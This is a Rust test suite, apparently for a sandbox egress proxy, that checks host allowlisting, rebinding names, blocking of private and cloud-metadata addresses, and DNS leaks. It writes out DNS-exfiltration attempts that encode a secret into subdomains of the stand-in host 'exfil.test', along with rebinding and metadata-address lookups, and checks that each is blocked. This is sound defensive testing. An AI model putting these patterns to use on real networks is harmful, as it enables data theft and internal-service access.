//! Names and the addresses behind them: what is judged is what is dialled, and nobody outside hears of
//! a name that is not allowed.

use serde_json::json;

use crate::ground::Ground;
use crate::knock::{Came, Doors, INSIDE, NARROW, connect, get, refused, socks_name};
use crate::world::{Canary, HOST4, HOST6, WEB4, fresh, world};

/// PX-06
#[test]
fn names_are_compared_label_by_label() {
    let ground = Ground::new();
    let careless = Doors::of(world().careless_proxy(&["allowed.test"]));
    let control = ground.knock_outside(&careless.all("evilallowed.test", 80)[..1]);
    assert_eq!(control[0].status(), Some(200), "{control:?}");

    let flags = [
        "--allow-host",
        "allowed.test",
        "--allow-host",
        "*.wild.test",
    ];
    let near = [
        "evilallowed.test",
        "allowed.test.evil.test",
        "llowed.test",
        "x.allowed.test",
        "wild.test",
        "xwild.test",
        "test",
        "allowed.tes",
    ];
    let attempts: Vec<_> = near.iter().flat_map(|host| INSIDE.all(host, 80)).collect();
    refused(&attempts, &ground.knock(&flags, &attempts));

    let same = [
        "allowed.test",
        "ALLOWED.test",
        "allowed.test.",
        "a.wild.test",
        "A.b.WILD.test.",
    ];
    let attempts: Vec<_> = same
        .iter()
        .map(|host| connect(INSIDE.http, &format!("{host}:80")))
        .collect();
    for came in ground.knock(&flags, &attempts) {
        assert!(came.text().contains("\"port\": 80"), "{came:?}");
    }
}

/// PX-09: an answer for whoever judges, another for whoever dials.
#[test]
fn a_name_that_changes_its_mind_gets_nowhere() {
    let ground = Ground::new();
    let canary = Canary::on_the_host("127.0.0.1");
    let turning = |about| {
        let turns = json!({"A": [[WEB4], ["127.0.0.1"]], "AAAA": [[], []]});
        world().name(about, json!({"answers": turns, "rotate": true}))
    };
    let name = turning("turning");
    let careless = world().careless_proxy(&[&name]);
    let place = format!("{name}:{}", canary.port);
    let control = ground.knock_outside(&[connect(careless, &place)]);
    assert!(control[0].is_canary(), "{control:?}");
    let visits = canary.visits();

    let name = turning("turning");
    let mut attempts = Vec::new();
    for _ in 0..4 {
        attempts.extend(INSIDE.all(&name, canary.port));
        attempts.push(json!({"do": "connect", "place": [name, canary.port]}));
    }
    let came = ground.knock(&["--allow-host", &format!("{name}:*")], &attempts);
    assert!(!came.iter().any(Came::is_canary), "{came:?}");
    assert_eq!(canary.visits(), visits);
    assert!(
        !world().questions(&name).is_empty(),
        "it was resolved outside"
    );
}

/// PX-09, NW-61: names that lead where no rule leads, alone and in good company.
#[test]
fn a_name_leads_to_public_addresses_only() {
    let ground = Ground::new();
    let here = ["127.0.0.1", "127.8.7.6", "::1", HOST4, HOST6];
    let beyond = [
        "10.0.0.1",
        "172.16.0.1",
        "192.168.0.1",
        "169.254.169.254",
        "169.254.1.1",
        "100.64.0.1",
        "198.18.0.1",
        "192.0.0.8",
        "240.0.0.1",
        "fd00::1",
        "fd00:ec2::254",
        "64:ff9b::7f00:1",
        "64:ff9b::a9fe:a9fe",
        "2002:7f00:1::1",
        "2001:0:7f00:1::1",
    ];
    let canaries: Vec<_> = here
        .iter()
        .map(|address| Canary::on_the_host(address))
        .chain(beyond.iter().map(|address| Canary::beyond(address)))
        .collect();
    // Each name at the port of its canary; `mixed` has a public address before or after.
    let mut named = Vec::new();
    for canary in &canaries {
        let address = canary.address.as_str();
        named.push((world().name_at("alone", &[address]), canary));
        named.push((world().name_at("mixed", &[address, WEB4]), canary));
        named.push((world().name_at("mixed", &[WEB4, address]), canary));
    }
    let mapped = json!({"answers": {"AAAA": [["::ffff:127.0.0.1"]]}});
    named.push((world().name("mapped", mapped), &canaries[0]));
    let private = world().name_at("private", &["10.0.0.1"]);
    named.push((
        world().name("alias", json!({"cname": private})),
        &canaries[5],
    ));

    let direct =
        |(name, canary): &(String, &Canary)| json!({"do": "connect", "place": [name, canary.port]});
    let control: Vec<_> = named.iter().map(direct).collect();
    let control = ground.knock_outside(&control);
    for ((name, canary), came) in named.iter().zip(&control) {
        // A name that is mapped or mixed may lead the host elsewhere; alone it leads to the canary.
        assert!(
            came.is_canary() || !name.starts_with("alone"),
            "{name} {canary:?}: {came:?}"
        );
    }
    let before: Vec<_> = canaries.iter().map(Canary::visits).collect();
    assert!(before.iter().all(|count| *count > 0), "{before:?}");

    let mut attempts = Vec::new();
    for pair @ (name, canary) in &named {
        attempts.extend(INSIDE.all(name, canary.port));
        attempts.push(direct(pair));
    }
    let came = ground.knock(&["--allow-host", "*.names.test:*"], &attempts);
    assert!(!came.iter().any(Came::is_canary), "{came:?}");
    assert!(came.iter().all(|came| came.error() != Some("timeout")));
    for (number, (name, canary)) in named.iter().enumerate() {
        let came = &came[number * 4];
        if name.starts_with("alone") {
            assert_eq!(came.status(), Some(403), "{canary:?}: {came:?}");
        }
    }
    let after: Vec<_> = canaries.iter().map(Canary::visits).collect();
    assert_eq!(before, after);

    // Written out it is allowed: to the one port that is written.
    let canary = &canaries[5];
    let rule = format!("10.0.0.0/8:{}", canary.port);
    let attempts = [
        connect(INSIDE.http, &format!("10.0.0.1:{}", canary.port)),
        json!({"do": "connect", "place": ["10.0.0.1", canary.port]}),
        connect(
            INSIDE.http,
            &format!("10.0.0.1:{}", canary.port.wrapping_add(1)),
        ),
    ];
    let came = ground.knock(&["--allow-host", &rule], &attempts);
    assert!(came[0].is_canary() && came[1].is_canary(), "{came:?}");
    assert_eq!(came[2].status(), Some(403));
}

/// PX-10
#[test]
fn ports_count_and_a_denied_host_is_denied_in_every_spelling() {
    let ground = Ground::new();
    let fine = world().name_at("fine", &[WEB4]);
    let plain = Doors::of(world().trusting_proxy());
    for port in [22, 8080, 8443] {
        let control = ground.knock_outside(&plain.all(&fine, port)[..1]);
        assert!(control[0].text().contains("200 Connection"), "{control:?}");
    }
    let attempts: Vec<_> = [22, 8080, 8443, 65535]
        .iter()
        .flat_map(|port| {
            let mut all = INSIDE.all(&fine, *port);
            all.push(json!({"do": "connect", "place": [fine, port]}));
            all
        })
        .collect();
    let came = ground.knock(&["--allow-host", &fine], &attempts);
    refused(&attempts, &came);
    assert!(
        came[0].text().contains("--allow-host"),
        "{}",
        came[0].text()
    );

    let flags = [
        "--allow-host",
        "*.wild.test",
        "--deny-host",
        "denied.wild.test",
        "--deny-host",
        "*.deep.wild.test",
    ];
    let attempts: Vec<_> = [
        "denied.wild.test",
        "DENIED.wild.test",
        "denied.wild.test.",
        "a.deep.wild.test",
        "A.Deep.Wild.Test.",
    ]
    .iter()
    .flat_map(|host| INSIDE.all(host, 80))
    .collect();
    refused(&attempts, &ground.knock(&flags, &attempts));
    let fine = [
        connect(INSIDE.http, "deep.wild.test:80"),
        connect(INSIDE.http, "x.denied.wild.test:80"),
    ];
    for came in ground.knock(&flags, &fine) {
        assert!(came.text().contains("\"port\": 80"), "{came:?}");
    }
}

/// PX-11
#[test]
fn no_question_about_a_denied_name_leaves() {
    let ground = Ground::new();
    let data = format!("secret-{}", fresh());
    let named = |way: &str| format!("{way}.{data}.exfil.test");
    let ask = |way: &str, server: &str, port: u16| json!({"do": "dns", "name": named(&format!("{way}{}", server.len())), "server": server, "port": port, "way": way});
    let attempts = |doors: Doors, resolver: &str| {
        vec![
            json!({"do": "resolve", "name": named("libc")}),
            connect(doors.http, &format!("{}:443", named("connect"))),
            get(
                doors.http,
                &format!("http://{}/", named("get")),
                &named("get"),
            ),
            socks_name(doors.socks, &named("socks"), 443),
            ask("udp", resolver, 53),
            ask("tcp", resolver, 53),
            ask("udp", "8.8.8.8", 53),
            ask("tcp", "8.8.8.8", 53),
            ask("udp", "2001:4860:4860::8888", 53),
            ask("tcp", "2001:4860:4860::8888", 53),
        ]
    };
    let control = attempts(Doors::of(world().trusting_proxy()), "93.184.216.53");
    ground.knock_outside(&control);
    let asked = world().questions(&data);
    assert!(asked.len() >= 10, "{asked:?}");
    let packets = world().packets("8.8.8.8");
    assert_eq!(packets.len(), 2, "{packets:?}");

    let data = format!("secret-{}", fresh());
    let named = |way: &str| format!("{way}.{data}.exfil.test");
    let ask = |server: &str, way: &str| json!({"do": "dns", "name": named(way), "server": server, "port": 53, "way": way});
    let attempts = [
        json!({"do": "resolve", "name": named("libc")}),
        connect(INSIDE.http, &format!("{}:443", named("connect"))),
        get(
            INSIDE.http,
            &format!("http://{}/", named("get")),
            &named("get"),
        ),
        socks_name(INSIDE.socks, &named("socks"), 443),
        ask("127.0.0.1", "udp"),
        ask("127.0.0.1", "tcp"),
        // The same as a name of the allowed host's, which the rule does not cover.
        json!({"do": "resolve", "name": format!("{data}.allowed.test")}),
        // Other resolvers, of which none is there.
        ask("9.9.9.9", "udp"),
        ask("9.9.9.9", "tcp"),
        ask("2620:fe::fe", "udp"),
        ask("2620:fe::fe", "tcp"),
        ask("93.184.216.53", "udp"),
        ask("93.184.216.53", "tcp"),
    ];
    let came = ground.knock(NARROW, &attempts);
    for came in &came[..1] {
        assert_eq!(came.error(), Some("EAI_NONAME"), "{came:?}");
    }
    for (attempt, came) in attempts.iter().zip(&came).skip(4).take(2) {
        assert_eq!(came.heard()["code"], 3, "{attempt}: {came:?}");
    }
    for (attempt, came) in attempts.iter().zip(&came).skip(7) {
        assert!(
            came.error().is_some_and(|why| why != "timeout"),
            "{attempt}: {came:?}"
        );
    }
    assert_eq!(world().questions(&data), Vec::<String>::new());
    for resolver in ["9.9.9.9", "2620:fe::fe"] {
        assert_eq!(world().packets(resolver), Vec::<String>::new());
    }
}

/// PX-11: even an allowed name is asked for outside only by whoever connects.
#[test]
fn looking_up_an_allowed_name_asks_nobody_outside() {
    let ground = Ground::new();
    let data = format!("data-{}", fresh());
    let name = format!("{data}.wild.test");
    let came = ground.knock(
        &["--allow-host", "*.wild.test"],
        &[
            json!({"do": "resolve", "name": name}),
            json!({"do": "dns", "name": name, "kind": "TXT"}),
            json!({"do": "dns", "name": name, "kind": "ANY"}),
        ],
    );
    let addresses = came[0].heard().as_array().expect("addresses").clone();
    assert!(
        !addresses.is_empty() && !addresses.contains(&json!(WEB4)),
        "{addresses:?}"
    );
    assert!(world().questions(&data).is_empty());
    ground
        .sh(
            &["--allow-host", "*.wild.test"],
            &format!("curl -sS http://{name}/echo"),
        )
        .ok();
    assert!(!world().questions(&data).is_empty());
}
